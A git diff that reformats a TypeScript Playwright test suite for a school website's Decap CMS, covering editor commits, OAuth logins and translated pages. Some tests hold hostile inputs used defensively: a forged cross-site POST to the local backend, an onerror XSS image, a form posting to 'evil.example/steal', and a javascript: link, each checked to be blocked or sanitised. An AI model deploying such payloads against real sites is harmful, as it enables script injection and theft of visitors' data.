@@ -123,7 +123,10 @@ function londonToday(): string {
 async function login(p: Page) {
   await p.goto(`${site}/admin/`);
   await p.getByRole('button', { name: 'Login', exact: true }).click();
-  await p.getByRole('link', { name: /Class updates/ }).first().waitFor();
+  await p
+    .getByRole('link', { name: /Class updates/ })
+    .first()
+    .waitFor();
 }
 
 const pagePath = () => `content/class-updates/oak/${today}-${SLUG}.md`;
@@ -147,7 +150,10 @@ beforeAll(async () => {
   await waitFor('the local backend', async () => /local backend (http:\/\/127\.0\.0\.1:\d+\/api\/v1)/.test(serverLog));
   backendUrl = /local backend (http:\/\/127\.0\.0\.1:\d+\/api\/v1)/.exec(serverLog)![1]!;
   await waitFor('the site', async () => (await fetch(`${site}/admin/`)).ok);
-  await waitFor('decap-server', async () => (await fetch(backendUrl, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"action":"info"}' })).ok);
+  await waitFor(
+    'decap-server',
+    async () => (await fetch(backendUrl, { method: 'POST', headers: { 'Content-Type': 'application/json' }, body: '{"action":"info"}' })).ok,
+  );
 
   browser = await launchBrowser();
   context = await browser.newContext({ locale: 'en-GB', timezoneId: 'Europe/London', viewport: { width: 1280, height: 900 } });
@@ -242,7 +248,10 @@ describe('editing with the CMS', () => {
     expect(git('branch', '--list', 'cms/*')).toBe('');
     expect(git('--no-optional-locks', 'status', '--porcelain')).toBe('');
     // One commit, by the editor, on top of the site as it was.
-    expect(git('log', '--format=%an|%s', 'main').split('\n')).toEqual([`Mrs Okafor|Create Class update “oak/${today}-${SLUG}”`, 'Mrs Okafor|The school website']);
+    expect(git('log', '--format=%an|%s', 'main').split('\n')).toEqual([
+      `Mrs Okafor|Create Class update “oak/${today}-${SLUG}”`,
+      'Mrs Okafor|The school website',
+    ]);
     const files = git('diff', '--name-only', 'HEAD~1', 'HEAD').split('\n').sort();
     expect(files).toEqual([pagePath(), `content/uploads/classes/oak/${today}/2026-11-13-science-week.jpg`].sort());
 
@@ -285,7 +294,11 @@ describe('editing with the CMS', () => {
       headers: { 'Content-Type': 'application/json', Origin: site },
       body: JSON.stringify({
         action: 'persistMedia',
-        params: { branch: 'main', asset: { path: 'content/uploads/note.png', content: 'iVBORw0KGgo=', encoding: 'base64' }, options: { commitMessage: 'Upload “note.png”' } },
+        params: {
+          branch: 'main',
+          asset: { path: 'content/uploads/note.png', content: 'iVBORw0KGgo=', encoding: 'base64' },
+          options: { commitMessage: 'Upload “note.png”' },
+        },
       }),
     });
     expect(upload.status).toBe(409);
@@ -360,7 +373,10 @@ describe('editing with the CMS', () => {
       },
     };
     // As the attack was made: a text/plain body needs no permission, and no-cors hides the answer.
-    await evil.evaluate(async ({ url, body }) => void (await fetch(url, { method: 'POST', mode: 'no-cors', body })), { url: backendUrl, body: JSON.stringify(forged) });
+    await evil.evaluate(async ({ url, body }) => void (await fetch(url, { method: 'POST', mode: 'no-cors', body })), {
+      url: backendUrl,
+      body: JSON.stringify(forged),
+    });
     await evil.close();
     await attacker.close();
     expect(git('branch', '--list', 'cms/*')).toBe(drafts);
@@ -382,7 +398,7 @@ describe('editing with the CMS', () => {
       'Hostile preview check',
       '<img src="x" onerror="window.__previewRan = \'img\'; parent.__previewRan = \'img\'">',
       '<form action="https://evil.example/steal"><input name="q" value="secret"><button>Send</button></form>',
-      '[Read more](javascript:parent.__previewRan=\'link\')',
+      "[Read more](javascript:parent.__previewRan='link')",
     ]) {
       await p.keyboard.insertText(line);
       await p.keyboard.press('Enter');
@@ -394,7 +410,9 @@ describe('editing with the CMS', () => {
     expect(await preview.locator('[onerror]').count()).toBe(0);
     expect(await preview.locator('form, input, button').count()).toBe(0);
     expect(await preview.locator('[action*="evil.example"]').count()).toBe(0);
-    expect(await preview.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(expect.stringMatching(/^\s*javascript:/i));
+    expect(await preview.locator('a[href]').evaluateAll((links) => links.map((a) => a.getAttribute('href')))).not.toContainEqual(
+      expect.stringMatching(/^\s*javascript:/i),
+    );
     await preview.getByText('Read more').click();
     const frame = (await p.locator('#preview-pane').elementHandle())!.contentFrame();
     expect(await (await frame)!.evaluate(() => (window as any).__previewRan)).toBeUndefined();
@@ -438,13 +456,24 @@ describe('logging in to a real Git host, as configured by environment variables'
     });
     await p.getByRole('button', { name: 'Login with GitLab' }).click();
     await expect.poll(() => authorize?.pathname).toBe('/oauth/authorize');
-    expect(Object.fromEntries(authorize!.searchParams)).toMatchObject({ client_id: 'app-123', response_type: 'code', code_challenge_method: 'S256', redirect_uri: `${site}/admin/`, scope: 'api' });
+    expect(Object.fromEntries(authorize!.searchParams)).toMatchObject({
+      client_id: 'app-123',
+      response_type: 'code',
+      code_challenge_method: 'S256',
+      redirect_uri: `${site}/admin/`,
+      scope: 'api',
+    });
     expect(authorize!.searchParams.get('code_challenge')).toMatch(/^[\w-]{43}$/);
     await p.close();
   });
 
   it('GitHub: through the school’s own OAuth provider, in a pop-up', async () => {
-    const p = await adminFor({ CMS_BACKEND: 'github', CMS_REPO: 'hazelbrook/website', CMS_BASE_URL: 'https://cms-auth.hazelbrook.example', CMS_SITE_DOMAIN: 'www.hazelbrook.example' });
+    const p = await adminFor({
+      CMS_BACKEND: 'github',
+      CMS_REPO: 'hazelbrook/website',
+      CMS_BASE_URL: 'https://cms-auth.hazelbrook.example',
+      CMS_SITE_DOMAIN: 'www.hazelbrook.example',
+    });
     await context.route('https://cms-auth.hazelbrook.example/**', (route) => route.fulfill({ contentType: 'text/html', body: '<title>Log in</title>' }));
     const popup = context.waitForEvent('page');
     await p.getByRole('button', { name: 'Login with GitHub' }).click();
@@ -456,7 +485,12 @@ describe('logging in to a real Git host, as configured by environment variables'
   });
 
   it('Gitea: PKCE with the school’s Gitea server', async () => {
-    const p = await adminFor({ CMS_BACKEND: 'gitea', CMS_REPO: 'hazelbrook/website', CMS_APP_ID: 'gitea-app', CMS_BASE_URL: 'https://gitea.hazelbrook.example' });
+    const p = await adminFor({
+      CMS_BACKEND: 'gitea',
+      CMS_REPO: 'hazelbrook/website',
+      CMS_APP_ID: 'gitea-app',
+      CMS_BASE_URL: 'https://gitea.hazelbrook.example',
+    });
     let authorize: URL | undefined;
     await p.route('https://gitea.hazelbrook.example/**', (route) => {
       authorize = new URL(route.request().url());
@@ -522,8 +556,14 @@ describe('the site rebuilt for a school on GitLab', () => {
     const alternates = (source: string) =>
       Object.fromEntries([...source.matchAll(/<link rel="alternate" hreflang="([^"]+)" href="([^"]+)"/g)].map((m) => [m[1], m[2]]));
     const english = readFileSync(join(out, `policies/${original}/index.html`), 'utf8');
-    expect(alternates(english)).toMatchObject({ en: `https://www.hazelbrook.sch.uk/policies/${original}/`, [lang]: `https://www.hazelbrook.sch.uk/${lang}/policies/${original}/` });
-    expect(alternates(translation)).toMatchObject({ en: `https://www.hazelbrook.sch.uk/policies/${original}/`, [lang]: `https://www.hazelbrook.sch.uk/${lang}/policies/${original}/` });
+    expect(alternates(english)).toMatchObject({
+      en: `https://www.hazelbrook.sch.uk/policies/${original}/`,
+      [lang]: `https://www.hazelbrook.sch.uk/${lang}/policies/${original}/`,
+    });
+    expect(alternates(translation)).toMatchObject({
+      en: `https://www.hazelbrook.sch.uk/policies/${original}/`,
+      [lang]: `https://www.hazelbrook.sch.uk/${lang}/policies/${original}/`,
+    });
     // The language's home page lists it with the other translations.
     expect(readFileSync(join(out, `${lang}/index.html`), 'utf8')).toContain(`href="/${lang}/policies/${original}/"`);
   });
